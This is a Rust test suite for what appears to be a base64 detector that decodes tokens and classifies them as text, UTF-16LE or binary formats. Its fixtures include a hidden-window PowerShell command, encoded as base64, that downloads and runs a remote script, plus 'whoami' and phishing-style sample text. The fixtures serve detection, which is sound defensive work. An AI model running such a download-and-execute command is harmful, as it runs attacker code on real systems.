                    out.push(char::from(STANDARD[sextet as usize]));
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    fn candidates(text: &[u8]) -> Vec<Candidate> {
        let mut out = Vec::new();
        find(text, &base64_runs(text), &mut out);
        out
    }

    fn values(text: &str) -> Vec<String> {
        candidates(text.as_bytes())
            .into_iter()
            .map(|c| String::from(c.value))
            .collect()
    }

    fn utf16le(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    /// Wraps `encoded` at `width` characters, ending each line with
    /// `newline`.
    fn wrap(encoded: &str, width: usize, newline: &str) -> String {
        let lines: Vec<&str> = encoded
            .as_bytes()
            .chunks(width)
            .map(|line| std::str::from_utf8(line).unwrap())
            .collect();
        lines.join(newline) + newline
    }

    /// A text long enough for several wrapped lines, with a URL that
    /// crosses the first line break of its encoding at width 76 (57
    /// decoded bytes per line).
    const INVOICE: &str = "Dear customer, your invoice is ready. \
        Download it at http://invoice.example.com/get?id=8812 and open \
        it before Friday, or the account will be closed for good.";

    #[test]
    fn wrapped_block_joined() {
        let encoded = encode(INVOICE.as_bytes());
        for (width, newline) in [(76, "\r\n"), (76, "\n"), (64, "\n")] {
            let text =
                format!("Body:\n{}--end", wrap(&encoded, width, newline));
            let found = candidates(text.as_bytes());
            assert_eq!(found.len(), 1, "{width} {newline:?}");
            let candidate = &found[0];
            assert_eq!(candidate.value, encoded.as_str(), "{width}");
            assert_eq!(candidate.start, "Body:\n".len(), "{width}");
            let last_line_end = text.len() - newline.len() - "--end".len();
            assert_eq!(candidate.end, last_line_end, "{width}");
            let payload = candidate.payload.as_deref().unwrap();
            assert_eq!(payload, INVOICE.as_bytes(), "{width}");
        }
    }

    #[test]
    fn wrapped_block_takes_short_padded_line() {
        // 58 bytes encode to 80 characters: one line of 76 and `ZQ==`
        // style 4-character last line.
        let letter = &INVOICE.as_bytes()[..58];
        let encoded = encode(letter);
        assert_eq!(encoded.len(), 80);
        let text = wrap(&encoded, 76, "\n");
        let found = candidates(text.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].value, encoded.as_str());
        assert_eq!(found[0].payload.as_deref(), Some(letter));
    }

    #[test]
    fn wrapped_block_ignores_word_after_it() {
        let encoded = encode(&INVOICE.as_bytes()[..114]);
        assert_eq!(encoded.len(), 152);
        let text = format!("{}Thanks\n", wrap(&encoded, 76, "\n"));
        let found = candidates(text.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].value, encoded.as_str());
    }

    #[test]
    fn unwrapped_lines_judged_alone() {
        // Lines of 60 characters are no standard wrap width, and hex
        // digests are no base64 even when they are 64 characters wide.
        let encoded = encode(INVOICE.as_bytes());
        let text = wrap(&encoded, 60, "\n");
        let found = candidates(text.as_bytes());
        assert!(found.len() > 1, "{found:?}");
        assert!(found.iter().all(|c| c.end - c.start <= 60));
        let digests = format!("{}\n{}\n", "ab".repeat(32), "cd".repeat(32));
        assert_eq!(values(&digests), Vec::<String>::new());
    }

    #[test]
    fn delimited_text_tokens_accepted() {
        let cases = [
            (
                "[QmFzZTY0IGlzIG5vdCBqdXN0IGZvciBiaW5hcnk=]",
                "QmFzZTY0IGlzIG5vdCBqdXN0IGZvciBiaW5hcnk=",
                "Base64 is not just for binary",
            ),
            (
                "token:ZXhhbXBsZS11cmwtc2FmZS1iYXNlNjQ",
                "ZXhhbXBsZS11cmwtc2FmZS1iYXNlNjQ",
                "example-url-safe-base64",
            ),
            ("short:QUJDREVGRw==", "QUJDREVGRw==", "ABCDEFG"),
            (
                "res YmFzZTY0LXJzcmMtc3RyaW5n end",
                "YmFzZTY0LXJzcmMtc3RyaW5n",
                "base64-rsrc-string",
            ),
            (
                "x VGhpcyBpcyBhIHJlYWwgdGV4dCBJREMu y",
                "VGhpcyBpcyBhIHJlYWwgdGV4dCBJREMu",
                "This is a real text IDC.",
            ),
            (
                "Authorization: Basic dXNlcjpwYXNzd29yZA==\r\n",
                "dXNlcjpwYXNzd29yZA==",
                "user:password",
            ),
            (
                r#"{"blob":"eyJ1c2VyIjoiYWRtaW4ifQ=="}"#,
                "eyJ1c2VyIjoiYWRtaW4ifQ==",
                r#"{"user":"admin"}"#,
            ),
        ];
        for (input, token, decoded) in cases {
            let found = candidates(input.as_bytes());
            assert_eq!(found.len(), 1, "{input}");
            let candidate = &found[0];
            assert_eq!(candidate.value, token, "{input}");
            assert_eq!(candidate.kind, Some("text"), "{input}");
            assert_eq!(
                candidate.payload.as_deref(),
                Some(decoded.as_bytes()),
                "{input}"
            );
            let start = input.find(token).unwrap();
            assert_eq!(candidate.start, start, "{input}");
            assert_eq!(candidate.end, start + token.len(), "{input}");
        }
    }

    #[test]
    fn adversarial_blob_tokens_rejected() {
        let cases = [
            "prefix-SGVsbG8sIFdvcmxkIQ==-suffix",
            "xxxxVXNlci1hZ2VudDogQmFzZTY0LXRlc3Q=yyyy",
            "tiny:YWJjZA==",
            "bin1://///w8PDw8PDw8PDw8PDw8PDw8PDw8PDw8=",
            "bin2:AAAAAAAA8P///wD////A////AP///wD///8=",
            "noalpha:MTIzNDU2Nzg5MDA5ODc2NTQzMjEw",
            "wrapped_token=xxxSGVsbG8sIFdvcmxkIQ==yyy",
            "noise:++++////++++////++++////",
            "dXRmMTYtTEU6AEgAZQBsAGwAbwAhAA==",
            "AQIDBAUGBwgJCgsMDQ4P",
            "MTIzNDU2Nzg5MDEyMzQ1Ng==",
        ];
        for input in cases {
            assert_eq!(values(input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn two_tokens_on_one_line() {
        assert_eq!(
            values("aGVsbG8gd29ybGQ= Zm9vYmFyYmF6cXV4"),
            ["aGVsbG8gd29ybGQ=", "Zm9vYmFyYmF6cXV4"]
        );
    }

    #[test]
    fn powershell_encoded_command_is_utf16le() {
        let input = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3\
            AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEA\
            G8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwAD\
            MALgAwAC4AMQAxADMALgA2ADYALwBhAC4AcABzADEAJwApAA==";
        let found = candidates(input.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, Some("utf16le"));
        assert_eq!(found[0].end, input.len());
        assert!(found[0].value.starts_with("SQBFAFgA"));
        let command = "IEX (New-Object Net.WebClient).DownloadString(\
            'http://203.0.113.66/a.ps1')";
        assert_eq!(found[0].payload, Some(utf16le(command)));
    }

    #[test]
    fn utf16le_with_byte_order_mark() {
        let mut payload = vec![0xFF, 0xFE];
        payload.extend(utf16le("Start-Process calc.exe"));
        let found = candidates(encode(&payload).as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, Some("utf16le"));
    }

    #[test]
    fn utf16le_with_most_surrogate_pairs_accepted() {
        // 17 ASCII characters and 3 characters outside the BMP: 85% of
        // the characters are ASCII, but 6 of the 23 code units are not.
        let text = "Invoke-Expression\u{1F600}\u{1F601}\u{1F602}";
        let payload = utf16le(text);
        assert_eq!(classify(&payload), Some("utf16le"));
        let found = candidates(encode(&payload).as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, Some("utf16le"));
    }

    #[test]
    fn utf16le_with_unpaired_surrogate_rejected() {
        let mut payload = utf16le("Invoke-Expression $x");
        payload.extend([0x00, 0xD8]);
        assert!(candidates(encode(&payload).as_bytes()).is_empty());
    }

    #[test]
    fn utf8_text_accepted() {
        let text = "Привет, мир! Это проверка.";
        let found = candidates(encode(text.as_bytes()).as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, Some("text"));
        assert_eq!(found[0].payload.as_deref(), Some(text.as_bytes()));
    }

    #[test]
    fn binary_headers_set_kind() {
        let cases: [(&[u8], &str); 12] = [
            (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "pe"),
            (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "zip"),
            (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf"),
            (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xcb\x48", "gzip"),
            (b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00", "elf"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00", "ole"),
            (b"Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5", "rar"),
            (b"7z\xbc\xaf\x27\x1c\x00\x04\x8d\x9b\xd5\x0f", "7z"),
            (b"MSCF\0\0\0\0\x9c\x01\x00\x00\x00\x00", "cab"),
            (b"\xce\xfa\xed\xfe\x07\x00\x00\x00\x03\x00", "macho"),
            (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00", "macho"),
            (b"MZ is a text that starts like a PE", "text"),
        ];
        for (payload, kind) in cases {
            let token = encode(payload);
            let found = candidates(format!("x {token} y").as_bytes());
            assert_eq!(found.len(), 1, "{kind}: {token}");
            assert_eq!(found[0].kind, Some(kind), "{token}");
            assert_eq!(found[0].payload.as_deref(), Some(payload), "{token}");
        }
    }

    /// Finds the token of a run by walking every group of `=`, as a
    /// slower reference for `split_token`.
    fn split_token_by_groups(run: &[u8]) -> Option<(usize, usize)> {
        let mut offset = 0;
        let mut at = 0;
        while at < run.len() {
            if run[at] != b'=' {
                at += 1;
                continue;
            }
            let first = at;
            while at < run.len() && run[at] == b'=' {
                at += 1;
            }
            let len = at - first;
            if at == run.len() {
                return (len <= 2).then_some((offset, len));
            }
            if len > 1 {
                return None;
            }
            offset = at;
        }
        Some((offset, 0))
    }

    #[test]
    fn split_token_finds_key_and_padding() {
        let cases: [(&str, Option<(usize, usize)>); 12] = [
            ("SGVsbG8sIFdvcmxkIQ", Some((0, 0))),
            ("SGVsbG8sIFdvcmxkIQ==", Some((0, 2))),
            ("SGVsbG8sIFdvcmxkIQ===", None),
            ("key=SGVsbG8sIFdvcmxkIQ", Some((4, 0))),
            ("a=b=SGVsbG8sIFdvcmxkIQ=", Some((4, 1))),
            ("=SGVsbG8sIFdvcmxkIQ==", Some((1, 2))),
            ("ab=c=", Some((3, 1))),
            ("key==SGVsbG8sIFdvcmxkIQ", None),
            ("k==y=SGVsbG8sIFdvcmxkIQ", None),
            ("SGVsbG8=SGVsbG8==x", None),
            ("===", None),
            ("=", Some((0, 1))),
        ];
        for (run, expected) in cases {
            let token = split_token(run.as_bytes());
            let found = token.as_ref().map(|t| (t.offset, t.pad));
            assert_eq!(found, expected, "{run}");
        }
    }

    #[test]
    fn split_token_flags_cover_data_only() {
        let token = split_token(b"a+b=SGVsbG8-IFdvcmxk==").unwrap();
        assert_eq!(token.offset, 4);
        assert_eq!(token.flags, URL_SAFE_SIGN | NOT_HEX);
        let hex =
            split_token(b"md5=d41d8cd98f00b204e9800998ecf8427e").unwrap();
        assert_eq!(hex.flags & NOT_HEX, 0);
    }

    #[test]
    fn symbol_flags_match_byte_tests() {
        for byte in 0..=255u8 {
            let flags = symbol_flags(&[byte]);
            let standard = byte == b'+' || byte == b'/';
            let url_safe = byte == b'-' || byte == b'_';
            assert_eq!(flags & STANDARD_SIGN != 0, standard, "{byte:#x}");
            assert_eq!(flags & URL_SAFE_SIGN != 0, url_safe, "{byte:#x}");
            assert_eq!(flags & EQUALS != 0, byte == b'=', "{byte:#x}");
        }
    }

    #[test]
    fn text_classes_match_byte_tests() {
        for byte in 0..=255u8 {
            let class = lookup(&TEXT_CLASS, byte);
            let printable = is_printable_ascii(byte);
            assert_eq!(class & PRINTABLE != 0, printable, "{byte:#x}");
            let control = is_control_byte(byte);
            assert_eq!(class & CONTROL != 0, control, "{byte:#x}");
            let letter = byte.is_ascii_alphabetic();
            assert_eq!(class & LETTER != 0, letter, "{byte:#x}");
        }
    }

    #[test]
    fn filler_counts_distinct_symbols() {
        let cases = [
            ("AAAAAAAAAAAAAAAA", true),
            ("ABABABABABABABAB", true),
            ("ABCABCABCABCABCA", true),
            ("++//++//++//", true),
            ("ABCD", false),
            ("AAAAAAAAAAAAAAAB-_", false),
            ("aaaaaaaaaaaaAAAA09", false),
        ];
        for (data, filler) in cases {
            assert_eq!(is_filler(data.as_bytes()), filler, "{data}");
        }
    }

    #[test]
    fn distinct_bytes_need_three_values() {
        let cases: [(&[u8], bool); 8] = [
            (b"", false),
            (b"a", false),
            (b"aaaa", false),
            (b"abab", false),
            (b"aaaabbbb", false),
            (b"abc", true),
            (b"aaaabbbbc", true),
            (b"\0\0\0\x01\x02", true),
        ];
        for (bytes, distinct) in cases {
            assert_eq!(has_distinct_bytes(bytes), distinct, "{bytes:?}");
        }
    }

    #[test]
    fn pe_header_signature_accepted() {
        let found = candidates(b"sig TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, Some("pe"));
    }

    #[test]
    fn binary_noise_rejected() {
        let noise: Vec<u8> = (0u32..48)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect();
        assert!(candidates(encode(&noise).as_bytes()).is_empty());
        let png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00";
        assert!(candidates(encode(png).as_bytes()).is_empty());
    }

    #[test]
    fn identifiers_and_words_rejected() {
        let cases = [
            "GetProcAddress",
            "SetUnhandledExceptionFilter",
            "CreateRemoteThreadEx",
            "VirtualAllocExNuma",
            "RtlDecompressBuffer",
            "IsDebuggerPresent",
            "MicrosoftWindowsDefender",
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            "some_snake_case_identifier_name",
            "internationalisation",
        ];
        for input in cases {
            assert_eq!(values(input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn hex_runs_rejected() {
        let cases = [
            "d41d8cd98f00b204e9800998ecf8427e",
            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
            "123e4567-e89b-12d3-a456-426614174000",
            "1234567890123456",
            // Hex that happens to decode to printable text (`kM4kM5…`).
            "a000a001a002a003",
            "a000a001a002a003a004a005a006a007",
        ];
        for input in cases {
            assert_eq!(values(input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn hex_token_test_finds_other_byte_anywhere() {
        for len in 0..50 {
            let run = vec![b'a'; len];
            assert!(is_hex_token(&run), "len {len}");
            for at in 0..len {
                for byte in [b'g', b'G', b'+', b'/', b'_', b'\0', 0xE6] {
                    let mut other = run.clone();
                    other[at] = byte;
                    let found = is_hex_token(&other);
                    assert!(!found, "{byte:#x} at {at} of {len}");
                }
                let mut pair = run.clone();
                pair[at] = b'=';
                let hex_value = at + 1 < len;
                let found = is_hex_token(&pair);
                assert_eq!(found, hex_value, "= at {at} of {len}");
                pair[0] = b'k';
                let found = is_hex_token(&pair);
                assert_eq!(
                    found,
                    hex_value && at > 0,
                    "k=, = at {at} of {len}"
                );
            }
        }
        assert!(is_hex_token(b"123e4567-e89b-12d3-A456-426614174000"));
        assert!(is_hex_token(b"md5=d41d8cd98f00b204e9800998ecf8427e"));
        assert!(!is_hex_token(b"md5=d41d8cd98f00b204e9800998ecf8427e="));
        assert!(!is_hex_token(b"md5=d41d8cd98f00b204e9800998ecf8427x"));
    }

    #[test]
    fn hex_test_matches_byte_test() {
        for byte in 0..=255u8 {
            let expected = byte.is_ascii_hexdigit() || byte == b'-';
            for at in 0..9 {
                let mut data = [b'a'; 9];
                data[at] = byte;
                let hex = symbol_flags(&data) & NOT_HEX == 0;
                assert_eq!(hex, expected, "{byte:#x}");
            }
        }
    }

    #[test]
    fn repeated_filler_rejected() {
        let cases = [
            "A".repeat(64),
            "AAAA".repeat(8) + "==",
            "++++////".repeat(4),
            encode(b"AAAAAAAAAAAAAAAAAAAAAAAA"),
            encode(b"abababababababababab"),
        ];
        for input in cases {
            assert_eq!(values(&input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn unix_paths_rejected() {
        let cases = [
            "/usr/local/bin/something",
            "/etc/systemd/system/evilservice",
            "/var/lib/docker/overlay2/abcdef",
            "/home/user/Downloads/payload",
            "/tmp/ssh-XXXXabcd/agent",
        ];
        for input in cases {
            assert_eq!(values(input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn url_path_segment_not_salvaged() {
        let input = "Redirector https://example.com/k265/aHR0cHM6Ly9jZG4uZXhh\
            bXBsZS5uZXQvcw served the kit";
        assert_eq!(values(input), Vec::<String>::new());
    }

    #[test]
    fn pem_body_lines_rejected() {
        // The second and third lines decode to DER around readable names
        // (`CloudFlare Origin SSL Certificate Author…`).
        let input = "-----BEGIN CERTIFICATE-----\n\
            MIIEojCCA4qgAwIBAgIUVk8uE4ra2ccCyJEZ+HZqXBJyw84wDQYJKoZIhvcNAQEL\n\
            MgYDVQQLEytDbG91ZEZsYXJlIE9yaWdpbiBTU0wgQ2VydGlmaWNhdGUgQXV0aG9y\n\
            dWRGbGFyZSwgSW5jLjEdMBsGA1UECxMUQ2xvdWRGbGFyZSBPcmlnaW4gQ0ExJjAk\n\
            -----END CERTIFICATE-----\n";
        assert_eq!(values(input), Vec::<String>::new());
    }

    #[test]
    fn binary_block_lines_not_salvaged() {
        // 48 bytes decode from each line of 64 characters. The middle
        // line's bytes are a readable name, the others are not text.
        let binary: Vec<u8> = (0u8..48).map(|i| 0x80 | i).collect();
        let name = format!("{:<48}", "URI:http://crl.example.net/ca.crl");
        let der = [&binary[..], name.as_bytes(), &binary[..]].concat();
        let text = wrap(&encode(&der), 64, "\n");
        assert_eq!(text.lines().count(), 3);
        assert_eq!(values(&text), Vec::<String>::new());
        // The middle line alone decodes to text.
        let middle = text.lines().nth(1).unwrap();
        assert_eq!(values(middle).len(), 1, "{middle}");
    }

    #[test]
    fn control_characters_limit_text() {
        const TEXT_64: &[u8] =
            b"The quick brown fox jumps over the lazy dog, again and again.  ";
        let cases: [(&[u8], bool); 6] = [
            (b"cmd.exe /c whoami\0", true),
            (b"cmd.exe /c whoami\0\0", true),
            (b"cmd.exe\x01/c whoami", false),
            (b"\x1b[31mred text\x1b[0m and more", false),
            (&[TEXT_64, b"\x07"].concat(), true),
            (&[TEXT_64, b"\x07\x07"].concat(), false),
        ];
        for (payload, accepted) in cases {
            let found = candidates(encode(payload).as_bytes());
            assert_eq!(found.len() == 1, accepted, "{payload:?}");
        }
    }

    #[test]
    fn key_value_separator_splits_token() {
        let cases = [
            ("password=cGFzc3dvcmQxMjM0NQ==", "cGFzc3dvcmQxMjM0NQ=="),
            ("a=b=SGVsbG8sIFdvcmxkIQ==", "SGVsbG8sIFdvcmxkIQ=="),
            ("=SGVsbG8sIFdvcmxkIQ==", "SGVsbG8sIFdvcmxkIQ=="),
        ];
        for (input, token) in cases {
            let found = candidates(input.as_bytes());
            assert_eq!(found.len(), 1, "{input}");
            assert_eq!(found[0].value, token, "{input}");
            assert_eq!(found[0].start, input.len() - token.len(), "{input}");
        }
    }

    #[test]
    fn double_equals_inside_rejects_run() {
        assert!(values("SGVsbG8sIFdvcmxkIQ==SGVsbG8sIFdvcmxkIQ==").is_empty());
        assert!(values("x==SGVsbG8sIFdvcmxkIQ==").is_empty());
    }

    #[test]
    fn padding_rules_enforced() {
        let cases = [
            // Three `=` are never padding.
            "SGVsbG8sIFdvcmxkIQ===",
            // Padded length not a multiple of four.
            "SGVsbG8sIFdvcmxkIQ=",
            "SGVsbG8sIFdvcmxkISE==",
            // Data length of 1 mod 4.
            "SGVsbG8sIFdvcmxkISEhI",
        ];
        for input in cases {
            assert_eq!(values(input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn short_tokens_rejected() {
        // 15 characters unpadded and 8 characters padded.
        assert!(values("SGVsbG8sIFdvcmx").is_empty());
        assert!(values("SGVsbG8sIFdvcm").is_empty());
        assert!(values("YWJjZA==").is_empty());
        // 16 characters unpadded is enough.
        assert_eq!(values("SGVsbG8sIFdvcmxk"), ["SGVsbG8sIFdvcmxk"]);
    }

    #[test]
    fn mixed_alphabets_rejected() {
        // `/` and `_` in one token.
        let token = "SGVsbG8/IFdvcmxk_IQ";
        assert!(values(token).is_empty());
        let url_safe = "PDw_Pz4-PDw_Pz4-aGVsbG8gd29ybGQ";
        assert_eq!(values(url_safe), [url_safe]);
    }

    #[test]
    fn glued_tokens_rejected_whole() {
        let cases = [
            "xxxSGVsbG8sIFdvcmxkIQ==",
            "prefix-SGVsbG8sIFdvcmxkIQ==",
            "SGVsbG8sIFdvcmxkIQ==-suffix",
            "SGVsbG8sIFdvcmxkIQ==yyy",
        ];
        for input in cases {
            assert_eq!(values(input), Vec::<String>::new(), "{input}");
        }
    }

    #[test]
    fn non_ascii_neighbours_bound_token() {
        let mut input = b"\xff\x00".to_vec();
        input.extend_from_slice(b"SGVsbG8sIFdvcmxkIQ==");
        input.extend_from_slice("é".as_bytes());
        let found = candidates(&input);
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].start, found[0].end), (2, 22));
    }

    #[test]
    fn long_token_accepted_and_payload_capped() {
        let text = "The quick brown fox jumps over the lazy dog. "
            .repeat(MAX_PAYLOAD_LEN * 3 / 2 / 45);
        let token = encode(text.as_bytes());
        let found = candidates(token.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].end, token.len());
        let payload = found[0].payload.as_deref().unwrap();
        assert_eq!(payload.len(), MAX_PAYLOAD_LEN);
        assert_eq!(payload, &text.as_bytes()[..MAX_PAYLOAD_LEN]);
    }

    #[test]
    fn oversized_token_skipped_whole() {
        let unit = encode(b"The quick brown fox jumps over it.");
        let token = unit.repeat(MAX_TOKEN_LEN / unit.len() + 1);
        assert!(token.len() > MAX_TOKEN_LEN);
        let input = format!("{token} SGVsbG8sIFdvcmxkIQ==");
        assert_eq!(values(&input), ["SGVsbG8sIFdvcmxkIQ=="]);
    }

    /// Decodes `data` by shifting each sextet into a `u32`, as the model
    /// that `decode_into` and its lookup tables are tested against.
    fn decode_by_shifts(data: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        for group in data.chunks(4) {
            let mut bits = 0u32;
            for &c in group {
                bits = bits << 6 | u32::from(SEXTET[usize::from(c)] & 0x3F);
            }
            bits <<= 6 * (4 - group.len());
            let [_, a, b, c] = bits.to_be_bytes();
            out.extend_from_slice(&[a, b, c][..group.len().saturating_sub(1)]);
        }
        out
    }

    /// Counts every byte before judging `bytes`, as the model that the
    /// early exit of `is_text` is tested against.
    fn is_text_by_full_count(bytes: &[u8]) -> bool {
        let last = bytes.iter().rposition(|&b| b != 0);
        let body = &bytes[..last.map_or(0, |i| i + 1)];
        let controls = body.iter().filter(|&&b| is_control_byte(b)).count();
        if controls > body.len() / CONTROL_ALLOWANCE {
            return false;
        }
        let printable =
            body.iter().filter(|&&b| is_printable_ascii(b)).count();
        let letter = body.iter().any(u8::is_ascii_alphabetic);
        if letter && mostly(printable, body.len()) {
            return true;
        }
        if body.is_ascii() {
            return false;
        }
        let Ok(text) = std::str::from_utf8(body) else {
            return false;
        };
        let chars = text.chars().count();
        let printable = text
            .chars()
            .filter(|c| !c.is_control() || c.is_whitespace())
            .count();
        let letter = text.chars().any(char::is_alphabetic);
        letter && mostly(printable, chars)
    }

    /// Bytes that mix printable ASCII with the bytes that decide the
    /// text test near its limits: controls, NULs, UTF-8 sequences and
    /// stray high bytes.
    fn text_like_bytes() -> impl Strategy<Value = Vec<u8>> {
        let piece = prop_oneof![
            4 => "[ -~]{1,12}".prop_map(String::into_bytes),
            2 => "[а-яé€😀]{1,4}".prop_map(String::into_bytes),
            1 => prop::collection::vec(0x80u8..=0xFF, 1..4),
            1 => prop::collection::vec(0u8..0x20, 1..3),
            1 => Just(vec![0u8; 2]),
            1 => prop::collection::vec(any::<u8>(), 1..6),
        ];
        prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
    }

    #[test]
    fn magic_first_bytes_cover_every_prefix() {
        for byte in 0..=255u8 {
            let starts = MAGIC.iter().any(|(magic, _)| magic[0] == byte);
            assert_eq!(MAGIC_FIRST[usize::from(byte)], starts, "{byte:#x}");
        }
    }

    #[test]
    fn decode_handles_partial_groups() {
        let mut out = Vec::new();
        for len in 0..10 {
            let bytes: Vec<u8> =
                (0..len).map(|i: u8| 0xA5 ^ i.wrapping_mul(37)).collect();
            let encoded = encode(&bytes);
            decode_into(encoded.trim_end_matches('=').as_bytes(), &mut out);
            assert_eq!(out, bytes, "{encoded}");
        }
    }

    #[test]
    fn sextet_table_covers_run_class() {
        for byte in 0..=255u8 {
            let expected =
                byte.is_ascii_alphanumeric() || b"+/=_-".contains(&byte);
            let in_table = lookup(&SEXTET, byte) != OUTSIDE;
            assert_eq!(in_table, expected, "{byte:#x}");
        }
    }

    proptest! {
        #[test]
        fn arbitrary_bytes_give_sound_spans(
            text in proptest::collection::vec(any::<u8>(), 0..512)
        ) {
            for candidate in candidates(&text) {
                prop_assert!(candidate.start < candidate.end);
                prop_assert!(candidate.end <= text.len());
                let first = text[candidate.start];
                prop_assert!(!(0x80..0xC0).contains(&first));
                let token = &text[candidate.start..candidate.end];
                prop_assert_eq!(candidate.value.as_bytes(), token);
            }
        }

        #[test]
        fn base64_alphabet_soup_gives_sound_spans(
            text in "[A-Za-z0-9+/=_ -]{0,256}"
        ) {
            for candidate in candidates(text.as_bytes()) {
                prop_assert!(candidate.end <= text.len());
                prop_assert!(text.is_char_boundary(candidate.start));
                prop_assert!(candidate.payload.is_some());
            }
        }

        #[test]
        fn split_token_matches_group_walk(
            run in proptest::collection::vec(
                prop_oneof![Just(b'A'), Just(b'='), Just(b'+')],
                0..40,
            )
        ) {
            let token = split_token(&run).map(|t| (t.offset, t.pad));
            prop_assert_eq!(token, split_token_by_groups(&run));
        }

        #[test]
        fn utf16_prefilter_keeps_accepted_text(
            pieces in proptest::collection::vec(
                prop_oneof![
                    12 => (0x20u16..0x7F).prop_map(|u| vec![u]),
                    // A valid surrogate pair is the costliest kind of
                    // non-ASCII text for the prefilter's bound.
                    3 => (0xD800u16..0xDC00, 0xDC00u16..0xE000)
                        .prop_map(|(high, low)| vec![high, low]),
                    1 => (0u16..0x20).prop_map(|u| vec![u]),
                    1 => (0x80u16..0xD800).prop_map(|u| vec![u]),
                    1 => (0xD800u16..0xE000).prop_map(|u| vec![u]),
                ],
                3..60,
            )
        ) {
            let body: Vec<u8> = pieces
                .iter()
                .flatten()
                .flat_map(|u| u.to_le_bytes())
                .collect();
            if is_printable_utf16le(&body) {
                prop_assert!(may_be_utf16le_text(&body));
            }
        }

        #[test]
        fn filler_test_matches_distinct_count(
            data in prop_oneof![
                "[AB+/]{0,12}",
                "[ab_-]{0,12}",
                "[A-Za-z0-9+/]{0,12}",
                "[A-Za-z0-9_-]{0,12}",
            ]
        ) {
            // Each token uses one alphabet, as `token_data` ensures, so
            // distinct characters have distinct sextets.
            let distinct: std::collections::HashSet<&u8> =
                data.as_bytes().iter().collect();
            let expected = distinct.len() < MIN_DISTINCT_SYMBOLS as usize;
            prop_assert_eq!(is_filler(data.as_bytes()), expected);
        }

        #[test]
        fn hex_token_shortcut_drops_no_token(
            run in prop_oneof![
                "[0-9a-fA-F-]{0,80}",
                "[0-9a-fA-F=+/_-]{0,80}",
                "[0-9a-fA-F]{0,20}[g-zG-Z][0-9a-fA-F]{0,40}",
                "[a-z0-9=]{0,8}=[0-9a-fA-F-]{0,70}={0,2}",
                "[A-Za-z][A-Za-z0-9 ,.:/]{8,60}"
                    .prop_map(|text| encode(text.as_bytes())),
                ("[a-z0-9=]{0,8}=", "[A-Za-z][A-Za-z0-9 ,.:/]{8,60}")
                    .prop_map(|(key, text)| key + &encode(text.as_bytes())),
            ]
        ) {
            // `examine_run` skips a run whose token is hex only, and the
            // full test must find no token in any run it skips.
            let run = run.as_bytes();
            let mut decoded = Vec::new();
            let mut shortcut = Vec::new();
            examine_run(run, 0, &mut decoded, &mut shortcut);
            let mut full = Vec::new();
            examine_token(run, 0, &mut decoded, &mut full);
            prop_assert_eq!(shortcut, full);
        }

        #[test]
        fn decode_matches_shift_model(
            data in prop_oneof![
                "[A-Za-z0-9+/]{0,200}",
                "[A-Za-z0-9_-]{0,200}",
                "[/+_-]{0,20}",
            ]
        ) {
            let mut out = vec![0xAA; 7];
            decode_into(data.as_bytes(), &mut out);
            prop_assert_eq!(out, decode_by_shifts(data.as_bytes()));
        }

        #[test]
        fn text_test_matches_full_count(bytes in text_like_bytes()) {
            prop_assert_eq!(is_text(&bytes), is_text_by_full_count(&bytes));
        }

        #[test]
        fn encoded_sentences_round_trip(
            text in "[A-Za-z][A-Za-z0-9 ,.:/]{11,200}"
        ) {
            let token = encode(text.as_bytes());
            let input = format!("data: {token}\n");
            let found = candidates(input.as_bytes());
            prop_assert_eq!(found.len(), 1);
            prop_assert_eq!(&found[0].value, &token);
            prop_assert_eq!(
                found[0].payload.as_deref(),
                Some(text.as_bytes())
            );
        }
    }
}
